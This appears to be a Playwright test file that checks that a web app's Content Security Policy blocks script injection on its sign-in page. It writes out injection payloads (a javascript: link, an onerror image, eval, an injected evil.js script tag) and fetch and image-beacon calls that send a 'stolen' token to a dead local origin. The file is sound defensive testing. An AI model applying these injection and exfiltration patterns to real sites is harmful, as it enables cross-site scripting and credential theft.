import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/roost.ts';

/** Nobody listens there. */
const unknown = 'http://127.0.0.1:9';

type Attempt = { what: string; stoppedBy: string; make: (unknown: string) => void };

/** What a script that got into the page would try, and the directive that stops it. */
const attempts: Attempt[] = [
  {
    what: 'a script that is given its text',
    stoppedBy: 'require-trusted-types-for',
    make: () => {
      document.createElement('script').textContent = 'window.broken = true';
    },
  },
  {
    what: 'a link with a script',
    stoppedBy: 'script-src-elem',
    make: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.broken = true';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'HTML that is put into the page',
    stoppedBy: 'require-trusted-types-for',
    make: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.broken = true">');
    },
  },
  {
    what: 'eval',
    stoppedBy: 'require-trusted-types-for',
    // In a task of the page's own, and no wait: what the debugger runs may evaluate.
    make: () => {
      // oxlint-disable-next-line no-eval -- that it cannot is what is tested
      setTimeout(() => eval('window.broken = true'));
    },
  },
  {
    what: 'a call to an unknown origin',
    stoppedBy: 'connect-src',
    make: (unknown) => {
      fetch(`${unknown}/collect?stolen=token`).catch(() => undefined);
    },
  },
  {
    what: 'a picture of an unknown origin',
    stoppedBy: 'img-src',
    make: (unknown) => {
      new Image().src = `${unknown}/pixel.png?stolen=token`;
    },
  },
  {
    what: 'a frame of an unknown origin',
    stoppedBy: 'frame-src',
    make: (unknown) => {
      const frame = document.createElement('iframe');
      frame.src = unknown;
      document.body.append(frame);
    },
  },
  {
    what: 'a form to an unknown origin',
    stoppedBy: 'form-action',
    make: (unknown) => {
      const form = document.createElement('form');
      form.action = unknown;
      document.body.append(form);
      form.submit();
    },
  },
];

for (const { what, stoppedBy, make } of attempts) {
  test(`the policy stops ${what}`, async ({ page, allowMessages }) => {
    allowMessages('ontent Security Policy', 'Trusted', 'EvalError');
    const left = await watch(page);
    await page.goto('/auth/sign-in');
    await expect(page.getByRole('heading', { name: 'Sign in to Roost' })).toBeVisible();
    await page.evaluate(make, unknown).catch((thrown: unknown) => expect(String(thrown)).toContain('Trusted'));
    await expectStopped(page, stoppedBy);
    expect(left).toEqual([]);
  });
}

for (const { what, tag } of [
  { what: 'an inline script', tag: '<script>window.broken = true</script>' },
  { what: 'a script of an unknown origin', tag: `<script src="${unknown}/evil.js"></script>` },
]) {
  test(`the policy stops ${what} that was put into the document on its way`, async ({ page, allowMessages }) => {
    allowMessages('ontent Security Policy', 'Integrity');
    const left = await watch(page);
    await page.route('**/auth/sign-in', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${tag}</body>`);
      expect(body).toContain(tag);
      await route.fulfill({ response, body });
    });
    await page.goto('/auth/sign-in');
    await expect(page.getByRole('heading', { name: 'Sign in to Roost' })).toBeVisible();
    await expectStopped(page, 'script-src-elem');
    expect(left).toEqual([]);
  });
}

/** Keeps what the policy says on the page; answers what went to the unknown origin all the same, which then refused it. */
const watch = async (page: Page): Promise<string[]> => {
  const left: string[] = [];
  page.on('requestfailed', (request) => {
    if (request.url().startsWith(unknown) && request.failure()?.errorText !== 'csp') left.push(request.url());
  });
  await page.addInitScript(() => {
    const said: string[] = [];
    Object.assign(window, { said });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => said.push(effectiveDirective));
  });
  return left;
};

const expectStopped = async (page: Page, directive: string) => {
  await expect.poll(() => page.evaluate(() => (window as unknown as { said: string[] }).said)).toContain(directive);
  expect(await page.evaluate(() => 'broken' in window)).toBe(false);
};
